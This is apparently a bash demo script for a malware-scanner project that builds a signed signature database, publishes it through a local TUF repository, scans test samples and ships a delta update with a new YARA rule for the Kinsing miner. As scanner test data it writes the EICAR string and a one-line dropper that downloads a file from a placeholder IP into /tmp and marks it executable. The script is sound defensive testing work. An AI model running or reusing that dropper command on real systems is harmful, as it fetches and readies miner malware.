#!/usr/bin/env bash
# The main job, end to end on embedded defaults: lint rules-src/, build a signed database with a
# throwaway key, create a TUF repository in a local directory and publish the database to it,
# serve it with vigil-server on 127.0.0.1, fetch it over HTTP as a client would (TUF-verified),
# scan sample files with it (EICAR and a webshell must be found, the allowlisted fixture and a
# clean script must not); then add a rule, publish version 2 (with a delta from version 1),
# fetch the delta, rebuild version 2 from it byte for byte, scan again, and stop the server.
# Everything lands in target/demo/.
set -euo pipefail
cd "$(dirname "$0")/.."

cargo build --release --locked -p vigil-compiler -p vigil-scan-core -p vigil-update-server
bin=target/release/vigil-build
server=target/release/vigil-server
scan=target/release/vigil-scan
work=target/demo
rm -rf "$work"
mkdir -p "$work"
# Reproducible builds: the database records the commit time, not the wall clock.
export SOURCE_DATE_EPOCH="${SOURCE_DATE_EPOCH:-$(git log -1 --format=%ct 2>/dev/null || echo 0)}"

echo "== keygen (throwaway demo key; real keys: see keys/README.md)"
"$bin" keygen -o "$work/keys"

echo "== lint rules-src/"
"$bin" lint --deny-warnings rules-src

echo "== build version 1"
"$bin" build --rules rules-src --key "$work/keys/vigil.key" --version 1 -o "$work/vigil-1.vdb"
"$bin" verify --pubkey "$work/keys/vigil.pub" "$work/vigil-1.vdb"
"$bin" info "$work/vigil-1.vdb"

echo "== create a TUF repository (directory) and publish version 1"
"$bin" repo init --repo "$work/repo" --tuf-keys "$work/tuf"
"$bin" publish --repo "$work/repo" --tuf-keys "$work/tuf" --db "$work/vigil-1.vdb"

echo "== serve it with vigil-server on 127.0.0.1"
port_free() { ! (exec 3<>"/dev/tcp/127.0.0.1/$1") 2>/dev/null; }
port=$((20000 + RANDOM % 20000))
until port_free "$port"; do port=$((20000 + RANDOM % 20000)); done
"$server" --repo "$work/repo" --listen "127.0.0.1:$port" > "$work/server.log" 2>&1 &
server_pid=$!
trap 'kill "$server_pid" 2>/dev/null || true' EXIT
for _ in $(seq 100); do port_free "$port" || break; sleep 0.1; done
url="http://127.0.0.1:$port/"

echo "== update: load the served repository as a client would and download version 1"
mkdir -p "$work/client"
"$bin" repo check --url "$url" --root "$work/tuf/root.json" --download vigil-1.vdb -o "$work/client/vigil.vdb"
cmp "$work/vigil-1.vdb" "$work/client/vigil.vdb"

echo "== scan samples/ and EICAR with the downloaded version 1"
# EICAR is written here rather than committed, so no antivirus flags the repository.
printf '%s' 'X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*' > "$work/eicar.com"
printf 'curl -s http://203.0.113.9/kinsing -o /tmp/kdevtmpfsi && chmod +x /tmp/kdevtmpfsi\n' > "$work/dropper.sh"
expect_found() { # vigil-scan exits 1 when it finds something, as clamscan does
  local rc=0
  "$scan" "$@" || rc=$?
  [ "$rc" -eq 1 ] || { echo "expected detections (exit 1), got exit $rc" >&2; exit 1; }
}
expect_found -d "$work/client/vigil.vdb" --pubkey "$work/keys/vigil.pub" -r samples "$work/eicar.com" "$work/dropper.sh"

echo "== add a rule, build version 2, ship it as a delta"
cp -r rules-src "$work/rules-v2"
cat > "$work/rules-v2/yara/linux_miner_kinsing.yar" <<'RULE'
// Kinsing: a Go miner dropper that spreads through exposed Docker and Redis.
rule Linux_Miner_Kinsing_1
{
    meta:
        severity = "high"
        description = "Kinsing cryptominer dropper"
        author = "vigil rules team"
        reference = "https://attack.mitre.org/software/S0599/"
        date = "2026-11-25"
    strings:
        $a = "kinsing" nocase
        $b = "kdevtmpfsi"
        $c = "/tmp/kdevtmpfsi"
    condition:
        2 of them
}
RULE
"$bin" build --rules "$work/rules-v2" --key "$work/keys/vigil.key" --version 2 -o "$work/vigil-2.vdb"
"$bin" publish --repo "$work/repo" --tuf-keys "$work/tuf" --db "$work/vigil-2.vdb"
# vigil-server keeps timestamp.json in memory for up to a second (metadata_cache_ms), like a CDN.
sleep 1.5
"$bin" repo check --url "$url" --root "$work/tuf/root.json" --download vigil-1-2.vdelta -o "$work/client/1-to-2.vdelta"
"$bin" apply "$work/client/vigil.vdb" "$work/client/1-to-2.vdelta" -o "$work/vigil-2.applied.vdb"
cmp "$work/vigil-2.vdb" "$work/vigil-2.applied.vdb"
"$bin" verify --pubkey "$work/keys/vigil.pub" "$work/vigil-2.applied.vdb"
echo "== scan again with version 2: the new rule finds the dropper"
expect_found -d "$work/vigil-2.applied.vdb" --pubkey "$work/keys/vigil.pub" --json --no-summary "$work/dropper.sh"
echo "== stop the server (SIGTERM: graceful)"
kill -TERM "$server_pid"
wait "$server_pid"
trap - EXIT
echo "demo OK: delta $(wc -c < "$work/client/1-to-2.vdelta") bytes for a $(wc -c < "$work/vigil-2.vdb")-byte database"
